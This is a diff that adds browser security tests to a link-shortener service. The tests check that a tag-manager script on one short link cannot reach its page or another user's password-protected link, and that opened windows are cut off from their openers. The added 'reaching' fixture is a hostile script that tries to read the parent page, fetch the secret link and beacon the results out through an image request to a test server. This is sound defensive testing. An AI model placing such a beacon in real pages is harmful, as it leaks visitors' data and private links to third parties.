@@ -103,6 +103,76 @@ test('No page on the links origin can be framed, not even by a link of the servi
   await page.context().close();
 });
 
+/** What a script of a network would do to other pages of the links origin, and what came of each try. */
+const reaching = (told: string, secret: string) => `
+const tries = {};
+const attempt = (name, act) => { try { tries[name] = String(act()) } catch (error) { tries[name] = error.name } };
+attempt('page', () => parent.document.title);
+attempt('window', () => window.open(${JSON.stringify(secret)}));
+attempt('origin', () => self.origin);
+attempt('top', () => { top.location = ${JSON.stringify(secret)} });
+attempt('cookie', () => { document.cookie = '_t=1'; return document.cookie });
+fetch(${JSON.stringify(secret)}).then((reply) => reply.text()).catch(() => 'refused').then((text) => {
+  new Image().src = ${JSON.stringify(told)} + '?' + new URLSearchParams({ ...tries, fetch: text });
+});`;
+
+test('The script of a tag manager on one link reaches neither its page nor the password page of another', async ({
+  browser,
+  serverWith,
+}) => {
+  let told: Record<string, string> | undefined;
+  let secret = '';
+  const networks = await serveWeb((request, response) => {
+    const { pathname, searchParams } = new URL(request.url ?? '/', 'http://networks');
+    if (pathname === '/told') told = Object.fromEntries(searchParams);
+    response.setHeader('Content-Type', 'text/javascript');
+    response.end(
+      pathname === '/www.googletagmanager.com/gtm.js'
+        ? reaching('/told', secret).replaceAll('"/told"', `"http://${request.headers.host ?? ''}/told"`)
+        : '',
+    );
+  });
+  const server = await serverWith('--rate-limit', '0', '--pixel-origin', networks);
+  const [one, other] = [await openMaker(server), await openMaker(server)];
+  const { shop } = await openShop();
+  secret = await other.link({ url: `${shop}/secret`, password: 'open' });
+  const link = await one.link({ url: `${shop}/sale`, type: 'splash', pixels: [await one.pixel('tagmanagerpixel', 'GTM-X')] });
+  const context = await visitorWith(browser);
+  const page = await context.newPage();
+  await page.goto(link);
+  await expect.poll(() => told).toBeDefined();
+  expect(told).toEqual({
+    ...{ page: 'SecurityError', window: 'null', origin: 'null', top: 'SecurityError', cookie: '_t=1', fetch: 'refused' },
+  });
+  expect(page.url()).toBe(link);
+  expect(await context.cookies()).toEqual([]);
+  await context.close();
+});
+
+test('A page that opens a short link in a window keeps no hold of it, and a password page neither', async ({
+  browser,
+  serverWith,
+}) => {
+  const { link } = await openMaker(await serverWith('--rate-limit', '0'));
+  const { shop } = await openShop();
+  const context = await visitorWith(browser);
+  const page = await context.newPage();
+  await page.goto(`${shop}/start`);
+  for (const body of [{ type: 'splash' }, { password: 'open' }, { type: 'frame' }]) {
+    const short = await link({ url: `${shop}/inner`, ...body });
+    const opening = context.waitForEvent('page');
+    await page.evaluate((address) => {
+      Object.assign(window, { held: window.open(address) });
+    }, short);
+    const opened = await opening;
+    await opened.waitForURL(short);
+    expect(await opened.evaluate(() => window.opener === null)).toBe(true);
+    expect(await page.evaluate(() => (Reflect.get(window, 'held') as Window).closed)).toBe(true);
+    await opened.close();
+  }
+  await context.close();
+});
+
 /** Stops what leads a page on by itself, and nothing else: nobody knows how long it takes to look at it. */
 function holdOn(): void {
   const { setTimeout: wait } = window;
